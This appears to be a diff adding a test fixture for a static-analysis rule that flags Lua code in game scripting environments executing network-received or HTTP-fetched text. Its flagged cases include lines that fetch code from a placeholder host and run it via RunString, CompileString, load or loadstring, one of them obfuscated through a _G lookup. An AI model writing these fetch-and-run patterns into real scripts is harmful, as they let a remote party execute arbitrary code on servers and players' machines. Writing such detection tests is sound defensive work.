@@ -65,3 +65,48 @@ local function parse(req)
   keep.list = load_list(req.list)
   return data
 end
+
+net.Receive("shop_sync", function(size, who)
+  local order = net.ReadString()
+  -- ruleid: lua-request-text-loaded-as-code
+  RunString(order, "shop")
+end)
+
+http.Fetch("https://addons.example.net/v2", function(page, length)
+  if length > 10 then
+    -- ruleid: lua-request-text-loaded-as-code
+    CompileString(page, "v2")()
+  end
+end)
+
+PerformHttpRequest("https://addons.example.net/check", function(state, answer, head)
+  -- ruleid: lua-request-text-loaded-as-code
+  assert(load(answer))()
+end)
+
+local parts = { _G, "load", 12, "PerformHttpRequest" }
+parts[1][parts[4]]("https://addons.example.net/b", function(code, got)
+  -- ruleid: lua-request-text-loaded-as-code
+  local go = parts[1][parts[2]](got)
+  if go then go() end
+end)
+
+-- ruleid: lua-request-text-loaded-as-code
+loadstring(game:HttpGet("https://addons.example.net/ui.lua"))()
+
+http.Fetch("https://addons.example.net/news", function(page)
+  -- ok: lua-request-text-loaded-as-code
+  news:SetText(page)
+end)
+
+net.Receive("shop_name", function(size, who)
+  local name = net.ReadString()
+  -- ok: lua-request-text-loaded-as-code
+  RunString("print(1)", name)
+end)
+
+PerformHttpRequest("https://addons.example.net/version", function(state, answer)
+  -- ok: lua-request-text-loaded-as-code
+  local list = json.decode(answer)
+  print(list.version)
+end)
